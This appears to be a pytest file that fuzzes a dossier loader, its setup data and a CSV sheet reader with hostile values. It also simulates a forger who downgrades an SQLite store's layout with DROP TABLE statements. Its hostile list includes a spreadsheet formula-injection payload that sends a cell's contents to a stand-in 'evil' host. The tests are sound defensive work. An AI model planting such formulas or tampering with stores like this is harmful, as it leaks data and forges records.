"""
The loader under attack: each input the issue found, and hostile values anywhere.

Every input ends in a loaded dossier or one `InvalidDocument` naming a path, never a
raw exception, and what loads can be saved, checked and loaded again.
"""

from __future__ import annotations

import copy
import hashlib
import json
import sqlite3
from collections.abc import Callable
from pathlib import Path
from typing import Any

import attrs
import pendulum
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ketnap import InvalidDocument, Quotas, SQLiteStore, Stage, StoreError, Workflow
from ketnap.deadlines import deadlines_for
from ketnap.derived import facts_for
from ketnap.errors import InvalidInput, KetnapError
from ketnap.inputs import LIMITS
from ketnap.messages import Message
from ketnap.model import Dossier, Vote
from ketnap.organizations import (
    Course,
    OrganizationTree,
    Unit,
    course_data,
    courses_from_data,
)
from ketnap.sheets import SheetRefused, read_dossiers
from ketnap.storage import checked_dumps, dumps, from_document, loads, to_document
from ketnap.testing import add_vote, make_dossier, walk
from tests.conftest import MEETING
from tests.storage.test_fuzz import _paths
from tests.test_sheets import sheet_rows


@pytest.fixture(scope="module")
def document() -> dict[str, Any]:
    dossier = make_dossier(meeting=MEETING)
    walk(Workflow(), dossier, meeting=MEETING, until=Stage.FULL_MEMBER)
    return to_document(dossier)


def _text(document: dict[str, Any]) -> str:
    return json.dumps(document, ensure_ascii=False)


def test_deep_nesting_is_an_invalid_document() -> None:
    with pytest.raises(InvalidDocument, match="nest"):
        loads("[" * 100_000)


def test_a_five_thousand_digit_integer_is_an_invalid_document(document: dict[str, Any]) -> None:
    text = _text(document).replace('"revision": 0', '"revision": ' + "9" * 5001, 1)
    text = text.replace('"members_counted": 12', '"members_counted": ' + "9" * 5001, 1)
    with pytest.raises(InvalidDocument, match="digits"):
        loads(text)


@pytest.mark.parametrize("field", ["regulation", "name", "issuer", "form"])
def test_a_lone_surrogate_in_any_string_is_an_invalid_document(
    document: dict[str, Any], field: str
) -> None:
    # "\ud800" is valid JSON syntax but no text: it could never be saved as UTF-8.
    text = _text(document)
    edited = text.replace(f'"{field}": "', f'"{field}": "\\ud800', 1)
    assert edited != text
    with pytest.raises(InvalidDocument):
        loads(edited)


def test_a_date_near_the_end_of_the_calendar_is_refused_where_it_enters(
    document: dict[str, Any],
) -> None:
    edited = copy.deepcopy(document)
    edited["dossier"]["history"][-1]["on"] = "9999-12-31"
    with pytest.raises(InvalidDocument, match=r"history\[\d+\]\.on"):
        from_document(edited)


def test_a_date_on_the_last_covered_day_loads_and_computes(document: dict[str, Any]) -> None:
    edited = copy.deepcopy(document)
    edited["dossier"]["certificates"][0]["issued_on"] = "2100-12-31"
    dossier = from_document(edited)  # a certificate from the future is odd, not impossible
    deadlines = list(deadlines_for(dossier, on=MEETING, law=Workflow().law))
    assert deadlines  # computed, no overflow
    assert loads(dumps(dossier)).certificates == dossier.certificates


def test_duplicate_keys_are_refused_not_silently_merged(document: dict[str, Any]) -> None:
    text = _text(document).replace('"stage": ', '"stage": "source_pool", "stage": ', 1)
    with pytest.raises(InvalidDocument, match="same key twice"):
        loads(text)


@pytest.mark.parametrize("constant", ["NaN", "Infinity", "-Infinity"])
def test_non_json_numbers_are_refused(document: dict[str, Any], constant: str) -> None:
    text = _text(document).replace('"members_counted": 12', f'"members_counted": {constant}', 1)
    with pytest.raises(InvalidDocument):
        loads(text)


def test_a_document_over_the_size_limit_is_refused_before_parsing() -> None:
    with pytest.raises(InvalidDocument, match="larger than"):
        loads(" " * (LIMITS.document_bytes + 1))


def test_a_huge_name_is_refused_naming_the_field(document: dict[str, Any]) -> None:
    edited = copy.deepcopy(document)
    edited["dossier"]["candidate"]["name"] = "A" * (LIMITS.text_chars + 1)
    with pytest.raises(InvalidDocument, match=r"candidate\.name"):
        from_document(edited)


def test_a_list_over_the_limit_is_refused(document: dict[str, Any]) -> None:
    edited = copy.deepcopy(document)
    edited["dossier"]["votes"] = [edited["dossier"]["votes"][0]] * (LIMITS.list_items + 1)
    with pytest.raises(InvalidDocument, match="items"):
        from_document(edited)


def test_an_id_in_nfd_loads_as_its_nfc_twin(document: dict[str, Any]) -> None:
    edited = copy.deepcopy(document)
    edited["dossier"]["candidate"]["name"] = "Nguye\u0302\u0303n Va\u0306n An"
    assert from_document(edited).candidate.name == "Nguy\u1ec5n V\u0103n An"


def test_a_control_character_in_a_name_is_refused_without_quoting_it(
    document: dict[str, Any],
) -> None:
    edited = copy.deepcopy(document)
    edited["dossier"]["candidate"]["name"] = "An\x1b[2J"
    with pytest.raises(InvalidDocument) as caught:
        from_document(edited)
    assert "\x1b" not in str(caught.value)
    assert "An" not in str(caught.value).replace("candidate", "")


HOSTILE: list[object] = [
    "\ud800",
    "a\x00b",
    "\u202eevil",
    "9999-12-31",
    "0001-01-01",
    "1899-12-31",
    "x" * (LIMITS.text_chars + 1),
    10**30,
    -(10**30),
    1e308,
    [[[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]]],
    [None] * (LIMITS.list_items + 1),
    {"\ud800": 1},
    "card_issued",
    "2024-02-30",
]


@given(st.data())
@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_a_hostile_value_anywhere_is_refused_or_round_trips(
    document: dict[str, Any], data: st.DataObject
) -> None:
    edited = copy.deepcopy(document)
    path = data.draw(st.sampled_from(_paths(edited)[1:]), label="path")
    parent: Any = edited
    for key in path[:-1]:
        parent = parent[key]
    parent[path[-1]] = data.draw(st.sampled_from(HOSTILE), label="value")
    refused: InvalidDocument | None = None
    try:
        dossier = from_document(edited)
    except InvalidDocument as exc:
        refused = exc
    if refused is not None:
        assert refused.path.startswith("$")
        return
    # Loaded: then it is whole enough to save, load and compute on.
    assert loads(dumps(dossier)).id == dossier.id
    list(deadlines_for(dossier, on=MEETING, law=Workflow().law))


@given(st.text(max_size=200) | st.binary(max_size=200))
@settings(max_examples=400)
def test_any_text_or_bytes_is_refused_cleanly(value: str | bytes) -> None:
    with pytest.raises(InvalidDocument):
        loads(value)


def test_what_loads_can_be_saved_and_loaded_from_a_store(
    document: dict[str, Any], tmp_path: Path
) -> None:
    dossier = from_document(document)
    with SQLiteStore(tmp_path / "s.db") as store:
        store.save(dossier)
        assert (
            to_document(store.load(dossier.id))["dossier"]["history"]
            == (document["dossier"]["history"])
        )


def _mutations(dossier: Any) -> list[Any]:
    """In-place edits an application could make to a loaded dossier, legal or not."""
    vote = dossier.votes[0]
    sponsor = dossier.sponsors[0]
    document = next(iter(dossier.documents.values()))
    return [
        lambda: dossier.votes.append("a vote"),
        lambda: dossier.votes.extend([vote] * LIMITS.list_items),
        lambda: dossier.sponsors.append(sponsor),
        lambda: dossier.documents.__setitem__("X-KNĐ", document),
        lambda: dossier.documents.__setitem__(document.form, None),
        dossier.history.pop,
        lambda: dossier.history.pop(0),
        dossier.history.reverse,
        lambda: setattr(dossier, "stage", Stage.CARD_ISSUED),
        lambda: setattr(dossier, "card_number", None),
        lambda: setattr(dossier, "decision_received_on", dossier.entered_pool_on),
        lambda: dossier.certificates.append(dossier.certificates[0]),  # legal
        lambda: setattr(dossier, "helper", None),  # legal
        lambda: setattr(dossier, "helper", "a helper"),
    ]


@given(st.lists(st.integers(0, 13), min_size=1, max_size=3))
@settings(max_examples=200, deadline=None)
def test_a_save_refuses_exactly_what_a_load_refuses(
    document: dict[str, Any], edits: list[int]
) -> None:
    dossier = from_document(document)
    for index in edits:
        try:
            _mutations(dossier)[index]()
        except Exception:  # noqa: BLE001, S112 - an assignment the model refused: fine
            continue
    try:
        text = checked_dumps(dossier)
    except InvalidDocument:
        saved = None
    else:
        saved = text
    try:
        loaded = loads(dumps(dossier))
    except Exception:  # noqa: BLE001 - plain dumps may fail on junk; it is not the checked path
        loaded = None
    if saved is None:
        assert loaded is None, "a save refused what a load accepts"
    else:
        assert loaded is not None, "a save accepted what a load refuses"
        assert to_document(loads(saved)) == to_document(loaded)


# --- a layout downgrade, in any combination (issue 24) -------------------------------------

_KEY = b"kept in the district office's safe"
_STRIPS = {
    "journal": "DROP TABLE journal",
    "identities": "DROP TABLE identities",
    "events seals": "ALTER TABLE dossiers DROP COLUMN events_seal",
    "quota seals": "ALTER TABLE quotas DROP COLUMN seal",
    "course seals": "ALTER TABLE courses DROP COLUMN seal",
    "journal head": "DELETE FROM ketnap_meta WHERE key = 'journal'",
}


@given(
    layout=st.sampled_from(["1", "2", "3", "4", "5"]),
    strip=st.just(frozenset(_STRIPS)) | st.frozensets(st.sampled_from(sorted(_STRIPS))),
    key=st.sampled_from([None, _KEY]),
    recompute=st.booleans(),
    trust=st.booleans(),
)
@settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
def test_a_forged_quota_behind_any_layout_downgrade_is_never_accepted(
    tmp_path_factory: pytest.TempPathFactory,
    layout: str,
    strip: frozenset[str],
    key: bytes | None,
    recompute: bool,
    trust: bool,
) -> None:
    # The forger edits a quota, drops any part of what seals the store, marks any older
    # layout and perhaps recomputes what layout 1 sealed (SHA-256 over each document, all
    # one can do without the key). Opened with the key (or without, as it was sealed), and
    # even with trust_unsealed, the store is refused, or verify finds the forgery; only a
    # store sealed without a key can be forged whole, and the anchor then tells.
    path = tmp_path_factory.mktemp("downgrade") / "s.db"
    workflow = Workflow()
    dossier = make_dossier(meeting=MEETING)
    walk(workflow, dossier, meeting=MEETING, until=Stage.PROPOSED)
    with SQLiteStore(path, facts=facts_for(workflow.law), seal_key=key) as store:
        store.save(dossier)
        store.save_quotas(Quotas({("X", 2024): 2}))
        anchor = store.anchor()
    db = sqlite3.connect(path)
    db.execute("UPDATE quotas SET admissions = 20")
    for name in sorted(strip):
        db.execute(_STRIPS[name])
    db.execute("UPDATE ketnap_meta SET value = ? WHERE key = 'layout'", (layout,))
    if recompute:
        for dossier_id, document in db.execute("SELECT id, document FROM dossiers").fetchall():
            seal = hashlib.sha256(document.encode()).hexdigest()
            db.execute("UPDATE dossiers SET seal = ? WHERE id = ?", (seal, dossier_id))
    db.commit()
    db.close()
    try:
        opened = SQLiteStore(
            path, facts=facts_for(workflow.law), seal_key=key, trust_unsealed=trust
        )
    except StoreError:
        return  # refused, untouched
    with opened:
        assert opened.verify(anchor=anchor) != []
        whole_forgery = layout == "1" and key is None and recompute
        if not whole_forgery:
            assert opened.verify() != []


# --- issue 24: the organisation's data and the office's sheets under attack ----------------------

SETUP_HOSTILE: list[object] = [
    *HOSTILE,
    "\x1b[2J",
    "\u0085",
    "x" * 100_000,
    10**400,
    ["x"],
    {"x": 1},
    True,
    None,
    -1,
    1.5,
    float("nan"),
]
_TREE = OrganizationTree(
    [
        Unit(code="H", name="Đảng bộ huyện", level="district"),
        Unit(code="X", name="Đảng bộ xã", level="base_committee", parent="H", may_admit=True),
        Unit(code="X.1", name="Chi bộ thôn 1", level="branch", parent="X", members=21),
    ]
)
_COURSE = Course(code="K1", unit="H", opened_on=MEETING, closed_on=MEETING.add(days=4),
                 trainees=70)  # fmt: skip
SETUP_DATA: dict[str, tuple[object, Callable[[Any], object], str]] = {
    "tree": (_TREE.to_data(), OrganizationTree.from_data, "tree"),
    "quotas": (Quotas({("X", 2021): 6}).to_data(), Quotas.from_data, "quotas"),
    "courses": ([course_data(_COURSE)], courses_from_data, "courses"),
}


@given(st.data())
@settings(max_examples=400, deadline=None)
def test_a_hostile_value_anywhere_in_the_setup_data_is_refused_naming_its_key_or_stored(
    data: st.DataObject,
) -> None:
    kind = data.draw(st.sampled_from(sorted(SETUP_DATA)), label="kind")
    given_data, read, key = SETUP_DATA[kind]
    edited = copy.deepcopy(given_data)
    path = data.draw(st.sampled_from(_paths(edited)[1:]), label="path")
    parent: Any = edited
    for step in path[:-1]:
        parent = parent[step]
    parent[path[-1]] = data.draw(st.sampled_from(SETUP_HOSTILE), label="value")
    try:
        value = read(edited)
    except InvalidInput as exc:
        refused: InvalidInput | None = exc
    else:
        refused = None
    if refused is not None:
        assert refused.field.startswith(key), refused.field
        assert "\x1b" not in str(refused)
        return
    # Read: then it is clean enough to store and read back the same.
    with SQLiteStore(":memory:") as store:
        if isinstance(value, OrganizationTree):
            store.save_tree(value)
            assert store.tree().to_data() == value.to_data()
        elif isinstance(value, Quotas):
            store.save_quotas(value)
            assert store.quotas().items() == value.items()
        else:
            assert isinstance(value, list)
            store.save_courses(value)
            assert store.courses() == value


def test_a_tree_deeper_than_the_limit_is_refused_naming_the_unit() -> None:
    depth = LIMITS.tree_depth + 1
    levels = [{"code": f"l{i}", "vi": f"Cấp {i}", "en": f"Level {i}", "base": i == depth - 2,
               "branch": i == depth - 1} for i in range(depth)]  # fmt: skip
    units = [{"code": f"u{i}", "name": f"u{i}", "level": f"l{i}",
              "parent": f"u{i - 1}" if i else None} for i in range(depth)]  # fmt: skip
    with pytest.raises(InvalidInput, match=r"'u12' is more than 12 levels deep") as refused:
        OrganizationTree.from_data({"levels": levels, "units": units})
    assert refused.value.field == f"tree.units[{depth - 1}]"
    OrganizationTree.from_data({"levels": levels[:-1], "units": units[:-1]})  # 12: fine


def test_a_plan_over_a_tree_of_any_depth_never_recurses(monkeypatch: pytest.MonkeyPatch) -> None:
    from ketnap import organizations  # noqa: PLC0415

    # Allowed here only to show that nothing walks the tree by recursion (1,500 levels
    # ended in RecursionError in `report`).
    monkeypatch.setattr(organizations, "LIMITS", attrs.evolve(LIMITS, tree_depth=5_000))
    depth = 3_000
    levels = [organizations.Level(code=f"l{i}", label=Message(vi="c", en="c"),
                                  base=i == depth - 2, branch=i == depth - 1)
              for i in range(depth)]  # fmt: skip
    units = [Unit(code=f"u{i}", name=f"u{i}", level=f"l{i}", parent=f"u{i - 1}" if i else None)
             for i in range(depth)]  # fmt: skip
    tree = OrganizationTree(units, levels=levels)
    quotas = Quotas({(f"u{depth - 1}", 2024): 3})
    assert quotas.target(tree, "u0", 2024) == 3
    assert len(tree.ancestors(f"u{depth - 1}")) == depth - 1


SHEET_HOSTILE: list[object] = [
    *(value for value in SETUP_HOSTILE if isinstance(value, str)),
    '=HYPERLINK("http://evil/?"&B2,"x")',
    "'=1+1",
    "99999999999999999999/01/1999",
    "٢٠/٠٥/١٩٩٨",
    "31/02/2000",
    "01/01/0000",
    "NaN",
    "1e400",
    "-1",
    "",
]


@given(st.data())
@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_a_hostile_value_in_any_cell_of_a_sheet_is_refused_by_its_place_or_read(
    data: st.DataObject,
) -> None:
    import tempfile  # noqa: PLC0415 - hypothesis and function-scoped fixtures do not mix

    rows = sheet_rows(1)
    row = data.draw(st.integers(0, 1), label="row")
    column = data.draw(st.integers(0, len(rows[0]) - 1), label="column")
    rows[row][column] = data.draw(st.sampled_from(SHEET_HOSTILE), label="value")
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "ds.csv"
        path.write_bytes(
            "".join(",".join(f'"{c}"' for c in r) + "\r\n" for r in rows).encode(
                "utf-8", "surrogatepass"
            )
        )
        outcome: list[Dossier] | KetnapError
        try:
            outcome = read_dossiers(path, workflow=Workflow())
        except (SheetRefused, InvalidInput) as exc:
            outcome = exc
    if isinstance(outcome, SheetRefused):  # every problem names its row
        assert all(problem.row in {1, 2} for problem in outcome.problems)
    elif isinstance(outcome, KetnapError):  # a header that cannot be read: named so
        assert isinstance(outcome, InvalidInput)
        assert outcome.field in {"header", "sheet"}, outcome.field
    else:  # read: then the dossier saves and loads as any other
        for dossier in outcome:
            assert loads(checked_dumps(dossier)).id == dossier.id


def _one_vote(_dossier: Dossier, _attribute: object, votes: list[Vote]) -> None:
    if len(votes) > 1:
        raise InvalidInput("votes", "this office keeps one vote per dossier")


@attrs.define(kw_only=True, eq=False)
class _OneVoteDossier(Dossier):
    """An office's own dossier, with a validator of its own on a list."""

    votes: list[Vote] = attrs.field(factory=list, validator=_one_vote)


def test_a_save_runs_the_validators_of_a_dossier_class_of_its_own() -> None:
    base = make_dossier(meeting=pendulum.Date(2024, 3, 12))
    dossier = _OneVoteDossier(
        **{field.name: getattr(base, field.name) for field in attrs.fields(Dossier) if field.init}
    )
    for _ in range(2):  # appended: the validator does not run
        add_vote(dossier, pendulum.Date(2024, 3, 12))
    with pytest.raises(InvalidDocument, match="one vote per dossier") as caught:
        checked_dumps(dossier)
    assert caught.value.path == "$.dossier.votes"
